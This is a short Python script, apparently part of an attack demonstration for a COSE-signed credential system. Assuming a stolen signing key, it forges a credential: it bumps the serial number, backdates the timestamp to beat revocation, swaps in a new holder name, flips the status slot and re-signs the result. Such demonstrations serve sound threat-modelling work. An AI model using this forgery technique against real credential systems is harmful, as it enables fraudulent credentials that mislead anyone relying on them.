#!/usr/bin/python3
"""forge.py NUMBER.cose KEY PASSPHRASE-FILE: somebody has stolen the credential key and nothing else. Prints a .cose
with a credential for a holder of the thief's choice, with a number and a status slot never used, validly signed, and
the two officers' acts of the certificate given."""
import pathlib
import sys

import acts
from attack import Certificate, check_character, cose_file


def main():
    cose, pem, secret = map(pathlib.Path, sys.argv[1:])
    certificate = Certificate(cose.read_bytes())
    claims = certificate.claims()
    body = claims[2][:13] + f"{(int(claims[2][13:18]) + 1) % 100000:05d}"
    claims[2] = body + check_character(body)
    claims[6] -= 7200  # before any news could be on its way
    claims[-65537][1] = "示例孤峰系统有限公司"
    claims[-65537].pop(2, None)
    claims[-65537][6][1] ^= 1
    forged = acts.sign1(acts.Key(pem, secret), acts.encode(claims))
    sys.stdout.buffer.write(cose_file(forged, certificate.proposal, certificate.approval))


if __name__ == "__main__":
    main()
